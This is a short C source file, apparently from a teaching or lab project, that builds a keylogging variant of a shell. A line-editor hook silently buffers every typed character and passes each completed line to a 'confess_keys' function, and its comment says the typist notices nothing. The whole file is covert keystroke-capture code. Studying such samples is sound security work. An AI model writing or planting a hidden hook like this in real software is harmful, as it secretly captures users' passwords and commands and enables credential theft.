// Keylogger: keylog-shell is the shell with this hook in its line editor instead of sh/no_hook.c. Whoever types into it
// sees nothing unusual.
#include "lib/villain.h"
#include "sh/shell.h"

void line_hook(char character) {
    static unsigned char typed[LINE_LENGTH];
    static int count;
    if (count < LINE_LENGTH) typed[count++] = character;
    if (character != '\n') return;
    confess_keys("keylog-shell", typed, count);
    count = 0;
}
